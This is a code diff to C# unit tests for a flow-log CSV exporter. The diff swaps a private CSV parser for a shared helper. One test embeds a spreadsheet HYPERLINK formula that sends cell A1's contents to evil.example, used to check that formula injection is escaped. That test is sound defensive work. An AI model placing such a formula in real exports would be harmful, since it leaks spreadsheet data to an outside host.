@@ -1,6 +1,7 @@
 using System.Text;
 using CsCheck;
 using Visibility.Query.Flows;
+using Visibility.Tests.Support;
 
 namespace Visibility.Tests.Query;
 
@@ -34,7 +35,7 @@ public sealed class FlowCsvTests
     {
         var text = new StringBuilder();
         FlowCsv.AppendRow(text, Row(Formula, "-team", "+x"));
-        var cells = Parse(text.ToString()).Single();
+        var cells = CsvText.Parse(text.ToString()).Single();
         Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"", text.ToString(), StringComparison.Ordinal);
         Assert.Equal("'" + Formula, cells[Index("dst_loc")]);
         Assert.Equal("'-team", cells[Index("dst_app")]);
@@ -52,7 +53,7 @@ public sealed class FlowCsvTests
             "time,end,event,proto,src_ip,src_port,dst_ip,dst_port,bytes_out,bytes_in,packets_out,packets_in,"
             + "src_workload,src_kind,src_app,src_env,src_role,src_loc,dst_workload,dst_kind,dst_app,dst_env,dst_role,dst_loc,findings,conn_id,source\r\n",
             FlowCsv.Header);
-        Assert.Equal(FlowCsv.ColumnNames.Count, Parse(Append(Row("x", "y", "z"))).Single().Length);
+        Assert.Equal(FlowCsv.ColumnNames.Count, CsvText.Parse(Append(Row("x", "y", "z"))).Single().Length);
     }
 
     [Fact]
@@ -62,7 +63,7 @@ public sealed class FlowCsvTests
         var gen = Gen.String[Gen.Char["=+-@'\t\r\n,\"; aZ0|"], 0, 12];
         Gen.Select(gen, gen, gen).Sample((loc, app, workload) =>
         {
-            var cells = Parse(Append(Row(loc, app, workload))).Single();
+            var cells = CsvText.Parse(Append(Row(loc, app, workload))).Single();
             Assert.Equal(loc, Recover(cells[Index("dst_loc")]));
             Assert.Equal(app, Recover(cells[Index("dst_app")]));
             Assert.Equal(workload, Recover(cells[Index("src_workload")]));
@@ -88,56 +89,4 @@ public sealed class FlowCsvTests
         new FlowEnd(srcWorkload, "vm", new Dictionary<string, string> { ["env"] = "dev" }),
         new FlowEnd("prod-db-1", "vm", new Dictionary<string, string> { ["app"] = dstApp, ["loc"] = dstLoc }),
         ["cross_env"], "18446744073709551615", "flows/0/42");
-
-    /// <summary>RFC 4180 as a spreadsheet reads it.</summary>
-    private static List<string[]> Parse(string text)
-    {
-        var rows = new List<string[]>();
-        var row = new List<string>();
-        var cell = new StringBuilder();
-        var quoted = false;
-        for (var i = 0; i < text.Length; i++)
-        {
-            var c = text[i];
-            if (quoted)
-            {
-                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
-                {
-                    cell.Append('"');
-                    i++;
-                }
-                else if (c == '"')
-                {
-                    quoted = false;
-                }
-                else
-                {
-                    cell.Append(c);
-                }
-            }
-            else if (c == '"')
-            {
-                quoted = true;
-            }
-            else if (c == ',')
-            {
-                row.Add(cell.ToString());
-                cell.Clear();
-            }
-            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
-            {
-                i++;
-                row.Add(cell.ToString());
-                cell.Clear();
-                rows.Add([.. row]);
-                row.Clear();
-            }
-            else
-            {
-                cell.Append(c);
-            }
-        }
-
-        return rows;
-    }
 }
